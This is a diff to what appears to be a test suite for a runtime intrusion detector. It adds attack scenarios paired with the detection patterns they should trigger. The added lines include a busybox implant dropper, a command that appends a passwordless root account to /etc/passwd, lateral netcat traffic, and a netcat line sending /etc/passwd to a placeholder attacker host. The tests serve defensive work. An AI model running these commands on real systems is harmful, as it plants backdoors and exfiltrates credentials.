@@ -87,5 +87,11 @@ ATTACKS = [
     # A12: an operator who does what nobody did before
     ("A12-operator", "A12", sh("redis", "cat /etc/issue; ls /root"), [r"exec\|[^|]*\|/usr/bin/(dash|cat|ls)\|"]),
 ]
+SMALL = [
+    ("S-dropper", "A1", sh("web", "cp /bin/busybox /tmp/implant; /tmp/implant id"), [r"exec\|[^|]*\|/tmp/implant"]),
+    ("S-passwd", "A4", sh("cache", "echo toor::0:0::/:/bin/sh >> /etc/passwd"), [r"file\|[^|]*\|/etc/passwd\|write"]),
+    ("S-sideways", "A7", sh("web", "echo x | nc -w 1 {cache} 6379"), [r"peer\|[^|]*\|workload shop/cache\|out tcp/6379", r"exec\|[^|]*\|/bin/busybox nc"]),
+    ("S-outside", "A8", sh("cache", "nc -w 1 {evil} 4444 < /etc/passwd"), [r"peer\|[^|]*\|network {evil}\|out tcp/4444", r"exec\|[^|]*\|/bin/busybox nc"]),
+]
 # while everything is learned yet
 LEARNING = ("A14-while-learning", "A14", sh("memcached", "cp /bin/busybox /tmp/implant; /tmp/implant id"), [r"exec\|[^|]*\|/tmp/implant"])
